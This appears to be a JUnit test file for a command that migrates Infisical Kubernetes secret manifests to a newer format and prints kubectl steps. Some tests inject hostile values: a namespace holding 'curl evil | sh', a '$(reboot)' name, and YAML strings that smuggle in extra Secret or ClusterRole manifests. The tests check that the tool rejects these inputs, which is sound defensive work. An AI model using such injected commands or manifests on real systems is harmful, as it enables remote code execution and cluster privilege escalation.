package com.infisical.commands.migrate;

import static org.assertj.core.api.Assertions.assertThat;

import com.infisical.commands.CommandRun;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class MigrateCommandTest {
  private static final String UNIVERSAL =
      """
      apiVersion: secrets.infisical.com/v1alpha1
      kind: InfisicalSecret
      metadata:
        name: app
        namespace: shop
        labels: {tier: web, app.kubernetes.io/managed-by: Helm}
        annotations: {kubectl.kubernetes.io/last-applied-configuration: "{}"}
      spec:
        hostAPI: https://infisical.example.com/api
        tls: {caRef: {secretName: ca, secretNamespace: shop, key: ca.crt}}
        resyncInterval: 60
        authentication:
          universalAuth:
            credentialsRef: {secretName: login, secretNamespace: shop}
            secretsScope: {projectSlug: shop, envSlug: dev, secretsPath: /app, recursive: false}
          kubernetesAuth: {identityId: "", serviceAccountRef: {name: "", namespace: ""}}
        managedKubeSecretReferences:
          - secretName: app
            secretNamespace: shop
            creationPolicy: Owner
            template:
              data: {URL: "postgres://{{ .USER.Value }}"}
              metadata: {labels: {team: blue}}
          - {secretName: copy, secretNamespace: other}
        managedKubeConfigMapReferences:
          - {configMapName: app, configMapNamespace: shop}
      """;

  private static final String KUBERNETES =
      """
      apiVersion: secrets.infisical.com/v1alpha1
      kind: InfisicalSecret
      metadata: {name: %s, namespace: shop}
      spec:
        syncConfig: {resyncInterval: 2s, instantUpdates: true}
        authentication:
          kubernetesAuth:
            identityId: 5f0c1b7e-0002-4000-8000-000000000002
            serviceAccountRef: {name: shop, namespace: shop}
            autoCreateServiceAccountToken: true
            serviceAccountTokenAudiences: [infisical]
            secretsScope: {projectId: p, envSlug: dev, secretsPath: /app, secretName: API-KEY}
        managedSecretReference: {secretName: %s, secretNamespace: shop}
      """;

  @TempDir private Path folder;

  private CommandRun migrate(String... manifests) throws IOException {
    Path file = Files.writeString(folder.resolve("old.yaml"), String.join("---\n", manifests));
    return CommandRun.of("doctor", "migrate", "-f", file.toString());
  }

  /** What is printed is piped into kubectl apply: a field must not become a manifest. */
  @Test
  void printsNoFieldOfATenantAsAManifestOfItsOwn() throws IOException {
    String injected = "x\\n---\\napiVersion: v1\\nkind: Secret\\nmetadata: {name: injected}\\n#";
    CommandRun run =
        migrate(
            UNIVERSAL
                .replace(
                    "hostAPI: https://infisical.example.com/api", "hostAPI: \"" + injected + "\"")
                .replace("secretsPath: /app", "secretsPath: \"" + injected + "\"")
                .replace("secretName: copy", "secretName: \"" + injected + "\"")
                .replace("secretNamespace: other", "secretNamespace: \"" + injected + "\"")
                .replace("projectSlug: shop", "projectSlug: \"" + injected + "\""));
    assertThat(run.out().lines()).noneMatch(line -> line.startsWith("kind: Secret"));
  }

  /** The steps are copied into a shell. */
  @Test
  void printsNoCommandWithWhatIsNoName() throws IOException {
    CommandRun run = migrate(UNIVERSAL.replace("secretName: copy", "secretName: $(reboot)"));

    assertThat(run.out())
        .contains(
            "Secret other/$(reboot): name or namespace of the target is not valid; correct it")
        .doesNotContain("kubectl");
    assertThat(run.status()).isOne();
  }

  @Test
  void printsThreeObjectsAndTheStepsBetweenThem() throws IOException {
    CommandRun run = migrate(UNIVERSAL);

    assertThat(run.err()).isEmpty();
    assertThat(run.status()).isZero();
    assertThat(run.out())
        .isEqualTo(
            """
            ---
            # InfisicalSecret shop/app. No data changes and no workload restarts:
            # 1. while this operator runs, and not the Go operator, which would delete them: set creationPolicy to Orphan on every target of the InfisicalSecret
            # 2. allow its targets in other namespaces to be taken over:
            #    kubectl --namespace other annotate secret copy secrets.infisical.com/adopt=true
            # 3. apply the objects below; the targets are conflicts until the next step
            # 4. kubectl --namespace shop delete infisicalsecret app
            # Secret shop/app was Owner: set its creationPolicy to Owner again after the last step
            ---
            apiVersion: "secrets.infisical.com/v1beta1"
            kind: "InfisicalConnection"
            metadata:
              name: "app"
              namespace: "shop"
            spec:
              address: "https://infisical.example.com/api"
              tls:
                caCertificate:
                  name: "ca"
                  namespace: "shop"
                  key: "ca.crt"
            ---
            apiVersion: "secrets.infisical.com/v1beta1"
            kind: "InfisicalAuth"
            metadata:
              name: "app"
              namespace: "shop"
            spec:
              infisicalConnectionRef:
                name: "app"
                namespace: "shop"
              method: "universal"
              universal:
                clientIdRef:
                  name: "login"
                  namespace: "shop"
                  key: "clientId"
                clientSecretRef:
                  name: "login"
                  namespace: "shop"
                  key: "clientSecret"
            ---
            apiVersion: "secrets.infisical.com/v1beta1"
            kind: "InfisicalStaticSecret"
            metadata:
              name: "app"
              namespace: "shop"
              labels:
                tier: "web"
            spec:
              infisicalAuthRef:
                name: "app"
                namespace: "shop"
              syncOptions:
                refreshInterval: "60s"
                instantUpdates: false
              sources:
              - projectSlug: "shop"
                environmentSlug: "dev"
                secretPath: "/app"
              targets:
              - name: "app"
                namespace: "shop"
                kind: "Secret"
                creationPolicy: "Orphan"
                template:
                  data:
                    URL: "postgres://{{ .USER.Value }}"
                metadata:
                  labels:
                    team: "blue"
                  annotations: {}
              - name: "copy"
                namespace: "other"
                kind: "Secret"
                creationPolicy: "Orphan"
              - name: "app"
                namespace: "shop"
                kind: "ConfigMap"
                creationPolicy: "Orphan"
            """);
  }

  @Test
  void printsManifestsThatAreValid() throws IOException {
    CommandRun run = migrate(UNIVERSAL, KUBERNETES.formatted("one", "one"));
    Path printed = Files.writeString(folder.resolve("new.yaml"), run.out());

    assertThat(CommandRun.of("validate", "-f", printed.toString()).out())
        .isEqualTo("Valid: 6 manifests; 1 of other kinds skipped\n");
  }

  @Test
  void sharesALoginAndReadsOneSecretByATemplate() throws IOException {
    CommandRun run =
        migrate(KUBERNETES.formatted("one", "one"), KUBERNETES.formatted("two", "two"));

    assertThat(run.out())
        .containsOnlyOnce("kind: \"InfisicalAuth\"\n")
        .containsOnlyOnce("kind: \"InfisicalConnection\"\n")
        .containsOnlyOnce(
            "name: \"one-identity\"\n      namespace: \"shop\"\n      key: \"identityId\"")
        .doesNotContain("two-identity")
        .contains("API-KEY: \"{{ (index . \\\"API-KEY\\\").Value }}\"")
        .contains("refreshInterval: \"1h\"\n    instantUpdates: true")
        .contains("# the interval is the default of an InfisicalSecret, which has no usable one")
        .contains("# without hostAPI the operator's default host is called");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "syncConfig: {resyncInterval: 99999999999999999999s, instantUpdates: true} | 1h | true",
        "syncConfig: {resyncInterval: 1234567890s, instantUpdates: false} | 5m | false",
        // As typed Go clients send it: the block counts as absent.
        "{syncConfig: {resyncInterval: '', instantUpdates: false}, resyncInterval: 90} | 90s |"
            + " false",
        "{syncConfig: {instantUpdates: true}, resyncInterval: 90} | 1h | true"
      })
  void keepsTheIntervalThatTheOperatorReads(String given, String interval, boolean instant)
      throws IOException {
    String lines = given.replaceFirst("^\\{(.*), (resyncInterval: 90)}$", "$1\n  $2");
    CommandRun run =
        migrate(
            KUBERNETES
                .formatted("one", "one")
                .replace("syncConfig: {resyncInterval: 2s, instantUpdates: true}", lines));

    assertThat(run.out())
        .contains("refreshInterval: \"%s\"\n    instantUpdates: %s".formatted(interval, instant));
  }

  @Test
  void saysWhatCannotBeMovedAsItIs() throws IOException {
    CommandRun run =
        migrate(
            UNIVERSAL.replace("data: {URL", "includeAllSecrets: true\n        data: {URL"),
            UNIVERSAL
                .replace("{{ .USER.Value }}", "{{ .USER }}")
                .replace("  name: app\n", "  name: bare\n"),
            """
            apiVersion: secrets.infisical.com/v1alpha1
            kind: InfisicalSecret
            metadata: {name: old}
            spec:
              authentication:
                serviceToken: {serviceTokenSecretReference: {secretName: token, secretNamespace: shop}}
              managedSecretReference: {secretName: old, secretNamespace: shop}
            """);

    assertThat(run.status()).isOne();
    assertThat(run.out())
        .contains("# InfisicalSecret shop/app is not moved:", "both data and includeAllSecrets")
        .contains("# InfisicalSecret shop/bare is not moved:", "the template of key URL prints")
        .contains("# InfisicalSecret default/old is not moved:", "it logs in with a service token")
        .doesNotContain("kind:");
  }

  @Test
  void saysWhenThereIsNothingToMove() throws IOException {
    CommandRun run = migrate("apiVersion: v1\nkind: ConfigMap\n");

    assertThat(run.status()).isEqualTo(2);
    assertThat(run.err()).contains("there is no InfisicalSecret in", "correct -f");
  }

  @Test
  void printsNoCommandWithWhatATenantWroteInPlaceOfAName() {
    String hostile =
        UNIVERSAL
            .replace("secretNamespace: other", "secretNamespace: 'other; curl evil | sh #'")
            .replace("configMapName: app", "configMapName: \"app\\n---\\nkind: ClusterRole\"");

    CommandRun run = CommandRun.with(hostile, "doctor", "migrate", "-f", "-");

    assertThat(run.status()).isOne();
    assertThat(run.out())
        .contains(
            "# - Secret other; curl evil | sh #/copy: name or namespace of the target is not valid;"
                + " correct it")
        .doesNotContain("kubectl")
        .doesNotContain("\nkind: ClusterRole");
  }
}
